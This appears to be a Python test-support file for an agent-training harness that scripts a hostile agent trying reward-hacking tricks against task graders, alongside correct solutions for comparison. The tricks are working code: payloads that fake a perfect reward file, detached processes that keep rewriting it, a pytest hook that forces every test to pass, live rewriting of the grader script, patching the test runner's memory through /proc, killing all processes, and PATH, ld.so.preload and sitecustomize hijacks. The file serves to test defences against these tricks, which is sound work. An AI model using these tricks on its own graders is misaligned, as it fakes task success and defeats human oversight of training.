"""Agent-side tricks that try to get a reward without doing the task (issue 34), and the tasks
they are tried on, for tests/harness/test_grading_attacks.py and benchmarks/grading_attacks.py.

Each trick is the shell commands a hostile agent runs in its episode (cwd /workspace, HOME
/tmp); each aims at a 1.0 from the task's own grader. `attack(...)` runs one through the real
rollout path: `clawloop rollout DIR` with a scripted policy over HTTP (doubles.fake_openai).

The tasks: a ClawGym task folder (tests/fixtures/clawgym/task_0042), a Harbor task written as
Terminal-Bench writes them (tests/fixtures/harbor/count_lines: pytest from /workspace, a test
that runs the agent's program) and one of ours (tests/fixtures/tasks/hive_totals: an answer
key in /tests, `python3 -I` grader). `SOUND` is a right solution of each, by another route than
the reference's, with `clawgym_tiny(...)` as the ClawGym task whose solution is short.
"""

from __future__ import annotations

import contextlib
import io
import json
import shutil
from pathlib import Path

import pyarrow.parquet as pq

from doubles.fake_openai import FakeOpenAI, ToolStep

FIXTURES = Path(__file__).parents[1] / "fixtures"
TASKS = {
    "clawgym": FIXTURES / "clawgym/task_0042",
    "harbor": FIXTURES / "harbor/count_lines",
    "ours": FIXTURES / "tasks/hive_totals",
}

# Python run inside the grader by a hook: write a perfect reward, print a perfect score, leave.
PAYLOAD = """\
import os
for _n, _t in (("reward.json", '{"reward": 1.0}'), ("reward.txt", "1")):
    try:
        os.makedirs("/logs/verifier", exist_ok=True)
        with open("/logs/verifier/" + _n, "w") as _f:
            _f.write(_t)
    except OSError:
        pass
print("1.0", flush=True)
os._exit(0)
"""

# A detached writer (double fork, new session, no inherited output) that rewrites the reward
# files for ever; started once per process tree (W_SPAWNED).
WRITER = """\
import os, time
if os.environ.get("W_SPAWNED") != "1":
    os.environ["W_SPAWNED"] = "1"
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            _fd = os.open("/dev/null", os.O_RDWR)
            for _i in (0, 1, 2):
                os.dup2(_fd, _i)
            while True:
                for _n, _t in (("reward.json", '{"reward": 1.0}'), ("reward.txt", "1")):
                    try:
                        with open("/logs/verifier/" + _n, "w") as _f:
                            _f.write(_t)
                    except OSError:
                        pass
                time.sleep(0.0005)
        os._exit(0)
"""

# count.py (the Harbor task's program) that rewrites the running test.sh past the line bash is
# on: bash reads a script as it goes, so the rest of the verifier becomes the agent's.
REWRITE_TESTS = """\
import os
p = "/tests/test.sh"
try:
    t = open(p).read()
    i = t.index("if [ $?")
    open(p, "w").write(t[:i] + "echo 1 > /logs/verifier/reward.txt; exit 0\\n")
except (OSError, ValueError):
    pass
print(0)
"""

# count.py that swaps the grading kit (the folder on the verifier's PYTHONPATH) for a copy whose
# sitecustomize is the agent's, while the verifier runs: the next Python the verifier starts (here
# the second run of count.py) writes a perfect reward.json.
SWAP_KIT = """\
import os, shutil
site = os.environ.get("PYTHONPATH", "").split(":")[0]
kit = os.path.dirname(site)
if kit and os.path.isdir(site) and not os.path.exists(kit + ".old"):
    try:
        os.rename(kit, kit + ".old")
        shutil.copytree(kit + ".old", kit, symlinks=True)
        os.chmod(site, 0o755)
        os.chmod(site + "/sitecustomize.py", 0o644)
        shutil.copy("/workspace/payload.py", site + "/sitecustomize.py")
    except OSError:
        pass
print(-1)
"""

# count.py that patches the running test runner (its parent, same uid) through /proc/PID/mem: the
# code it returns to from its blocked system call becomes `exit_group(0)`, so pytest "passes"
# whatever its tests found (x86-64).
PATCH_PARENT = """\
import os
try:
    pid = os.getppid()
    pc = int(open(f"/proc/{pid}/syscall").read().split()[-1], 16)
    with open(f"/proc/{pid}/mem", "r+b", buffering=0) as mem:
        mem.seek(pc)
        mem.write(bytes.fromhex("b8e7000000" "31ff" "0f05"))  # mov eax,231; xor edi,edi; syscall
except (OSError, ValueError):
    pass
os._exit(0)  # printing nothing: the runner wakes only when this process is gone
"""

# count.py that kills every other process it can see (the verifier, its runner, the grading
# supervisor) after printing a plausible answer: no verdict, no grade.
KILL_ALL = """\
import os, signal, sys
print(0 if open(sys.argv[1], "rb").read() == b"" else 7, flush=True)
for p in os.listdir("/proc"):
    if p.isdigit() and int(p) != os.getpid():
        try:
            os.kill(int(p), signal.SIGKILL)
        except OSError:
            pass
"""

SHIM = "#!/bin/sh\necho 1 > /logs/verifier/reward.txt\necho '{\"reward\": 1.0}' > /logs/verifier/reward.json\n"

CONFTEST = """\
import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    outcome.get_result().outcome = "passed"
"""

USER_SITE = "/tmp/.local/lib/python3.11/site-packages"


def _write(path: str, text: str, mode: str = "") -> str:
    """A shell command writing `text` to `path` (a quoted heredoc: no expansion)."""
    cmd = f"mkdir -p \"$(dirname '{path}')\" && cat > '{path}' <<'CLAWLOOP_EOF'\n{text}CLAWLOOP_EOF"
    return cmd + (f"\nchmod {mode} '{path}'" if mode else "")


TRICKS: dict[str, list[str]] = {
    # 1. a module in the workspace shadows the grader's import (cwd first on sys.path)
    "shadow_module": [
        _write("/workspace/json.py", PAYLOAD),
        _write("/workspace/pytest.py", PAYLOAD),
    ],
    # 2. a Python start-up hook in HOME (/tmp) that outlives the episode
    "usercustomize": [_write(f"{USER_SITE}/usercustomize.py", PAYLOAD)],
    # 3. a read-only /workspace/reward holding the agent's own reward.sh
    "readonly_reward_dir": [
        _write("/workspace/reward/reward.sh", "#!/bin/bash\necho 1.0\n"),
        _write("/workspace/reward/check.py", "print('{\"ok\": 1.0}')\n"),
        "chmod -R 555 /workspace/reward",
    ],
    # 4. a pre-planted, read-only /tmp/clawgym-reward.sh
    "planted_tmp_script": [_write("/tmp/clawgym-reward.sh", "echo 1.0\n", "444")],
    # 5. processes that rewrite the reward: one started now, and ones the grader starts
    #    (the agent's program the Harbor test runs; a start-up hook elsewhere)
    "background_writer": [
        _write("/workspace/count.py", WRITER + "print(0)\n"),
        _write(f"{USER_SITE}/usercustomize.py", WRITER),
        "nohup python3 /workspace/count.py /dev/null >/dev/null 2>&1 &",
    ],
    # 6. (the grader's side: tests/harness/test_grading_attacks.py, a failing reward.sh)
    # ours: the interpreter's other start-up hooks and its search path
    "sitecustomize_env_files": [
        _write("/workspace/hook/sitecustomize.py", PAYLOAD),
        _write("/workspace/hook/usercustomize.py", PAYLOAD),
        _write("/workspace/sitecustomize.py", PAYLOAD),
        *[
            _write(f, "export PYTHONPATH=/workspace/hook PATH=/workspace/bin:$PATH\n")
            for f in ("/tmp/.bashrc", "/tmp/.profile", "/tmp/.bash_profile", "/workspace/.env")
        ],
    ],
    "pth_file": [
        _write("/workspace/payload.py", PAYLOAD),
        _write(
            f"{USER_SITE}/zz_hook.pth", "import runpy; runpy.run_path('/workspace/payload.py')\n"
        ),
        _write("/workspace/zz_hook.pth", "import runpy; runpy.run_path('/workspace/payload.py')\n"),
    ],
    "fake_python_on_path": [
        *[
            _write(
                f"{d}/python3",
                "#!/bin/sh\necho 1.0\nmkdir -p /logs/verifier\necho 1 > /logs/verifier/reward.txt"
                "\necho '{\"reward\": 1.0}' > /logs/verifier/reward.json\n",
                "755",
            )
            for d in ("/workspace/bin", "/tmp/bin", "/tmp/.local/bin")
        ],
        *[
            _write(f, "export PATH=/workspace/bin:/tmp/bin:$PATH\n")
            for f in ("/tmp/.bashrc", "/tmp/.profile", "/tmp/.bash_profile")
        ],
    ],
    "pytest_conftest_plugin": [
        _write("/workspace/conftest.py", CONFTEST),
        _write("/workspace/evil_plugin.py", CONFTEST),
        _write("/workspace/pytest.ini", "[pytest]\naddopts = -p evil_plugin\n"),
        _write(
            "/workspace/pyproject.toml", "[tool.pytest.ini_options]\naddopts = '-p evil_plugin'\n"
        ),
    ],
    "symlink_to_grading_files": [
        "mkdir -p /workspace/output && ln -sf /tests/answer.json /workspace/output/totals.json",
        "ln -sf /logs/verifier/reward.json /workspace/reward.json",
        "ln -sfn / /workspace/root",
    ],
    "rewrite_tests_while_graded": [_write("/workspace/count.py", REWRITE_TESTS)],
    # the grading kit renamed away and replaced by the agent's while the verifier runs
    "swap_grading_kit": [
        _write("/workspace/payload.py", PAYLOAD),
        _write("/workspace/count.py", SWAP_KIT),
    ],
    # the agent's program rewrites its parent test runner's code in memory
    "patch_runner_memory": [_write("/workspace/count.py", PATCH_PARENT)],
    # the agent's program kills the verifier, its runner and the grading supervisor
    "kill_the_supervisor": [_write("/workspace/count.py", KILL_ALL)],
    # shells and hooks where the system keeps them: bash/sh shims on PATH and BASH_ENV, a
    # preloaded library, a sitecustomize in the system's dist-packages, a conftest.py and a
    # pytest.ini in the folder above /tests and /workspace (all read-only, so each write fails)
    "system_shims_and_hooks": [
        *[
            _write(f"{d}/{sh}", SHIM, "755")
            for d in ("/workspace/bin", "/tmp/bin")
            for sh in ("bash", "sh")
        ],  # fmt: skip
        _write("/workspace/env.sh", SHIM.replace("#!/bin/sh\n", "") + "exit 0\n"),
        *[
            _write(f, "export PATH=/workspace/bin:/tmp/bin:$PATH BASH_ENV=/workspace/env.sh\n")
            for f in ("/tmp/.bashrc", "/tmp/.profile", "/tmp/.bash_profile", "/workspace/.env")
        ],
        "echo /workspace/evil.so > /etc/ld.so.preload",
        *[
            _write(f"{d}/sitecustomize.py", PAYLOAD)
            for d in (
                "/usr/lib/python3/dist-packages",
                "/usr/local/lib/python3.11/dist-packages",
                "/usr/lib/python3.11",
            )
        ],  # fmt: skip
        _write("/conftest.py", CONFTEST),
        _write("/pytest.ini", "[pytest]\naddopts = -p no:python\n"),
    ],
}

# The reason a trick's reward-0 grade gives when it is the trick itself that is caught (others
# simply fail the task's own checks, with the task's reason).
CAUGHT = {("background_writer", "harbor"): "left"}

TINY_CHECK = """\
import json, sys
from pathlib import Path
ws = Path(sys.argv[1])
try:
    ok = (ws / "output/count.txt").read_text().strip() == "3"
except OSError:
    ok = False
print(json.dumps({"count": 1.0 if ok else 0.0}))
"""


def clawgym_tiny(root: Path) -> Path:
    """A small ClawGym task folder (ClawGym's reward.sh verbatim, a short check.py): count the
    lines of input/data.txt into output/count.txt."""
    task = Path(root, "task_9001")
    (task / "input_files/input").mkdir(parents=True)
    (task / "input_files/input/data.txt").write_text("a\nb\nc\n")
    (task / "reward").mkdir()
    shutil.copy(TASKS["clawgym"] / "reward/reward.sh", task / "reward/reward.sh")
    (task / "reward/check.py").write_text(TINY_CHECK)
    entry = {
        "task_id": "task_9001",
        "user_query": "Count the lines of input/data.txt and write the number to output/count.txt.",
        "input_mount_dir": "/root/.openclaw/workspace",
    }
    (task / "data_entry.json").write_text(json.dumps(entry))
    return task


SOUND = {
    "clawgym": ["mkdir -p output && grep -c '' input/data.txt > output/count.txt"],
    "harbor": [
        _write(
            "/workspace/count.py",
            "import sys\nprint(open(sys.argv[1], 'rb').read().count(b'\\n'))\n",
        )
    ],
    "ours": [
        "mkdir -p output && python3 -c '"
        "import csv, json; from decimal import Decimal, ROUND_HALF_UP\n"
        'gone = {r["hive"] for r in csv.DictReader(open("hives.csv")) if r["status"] == "retired"}\n'
        "tot = {}\n"
        'for r in csv.DictReader(open("harvest.csv")):\n'
        '    if r["hive"] not in gone: tot[r["hive"]] = tot.get(r["hive"], Decimal(0)) + Decimal(r["kg"])\n'
        'q = {h: float(v.quantize(Decimal("0.1"), ROUND_HALF_UP)) for h, v in tot.items()}\n'
        'json.dump(q, open("output/totals.json", "w"))\''
    ],
}


def attack(task_dir: Path, commands: list[str], backend: str, out: Path) -> dict:
    """One episode of `task_dir` through `clawloop rollout` whose agent runs `commands` (one
    run_shell each), then finishes. Returns {reward, passed, reason, log, outputs}."""
    from clawloop.flows.cli import main

    script = [ToolStep("run_shell", {"command": c}) for c in commands]
    argv = ["rollout", str(task_dir), "-n", "1", "--concurrency", "1", "--backend", backend]
    with FakeOpenAI("script", script=script) as fake:
        buf = io.StringIO()
        with contextlib.redirect_stdout(buf):
            code = main([*argv, "--base-url", fake.base_url, "--model", "fake", "--out",
                         str(out), "--json"])  # fmt: skip
    if code != 0:
        raise RuntimeError(f"clawloop rollout exited {code}: {buf.getvalue()[-500:]}")
    result = json.loads(buf.getvalue().strip().splitlines()[-1])
    [row] = pq.read_table(result["trajectories"]).to_pylist()
    checks = json.loads(row["checks_json"])
    messages = json.loads(row["messages_json"])
    return {
        "reward": row["reward"],
        "passed": row["passed"],
        "reason": checks.get("reason", ""),
        "log": checks.get("log", ""),
        "outputs": [m.get("content", "") for m in messages if m.get("role") == "tool"],
        "end_reason": row["end_reason"],
    }
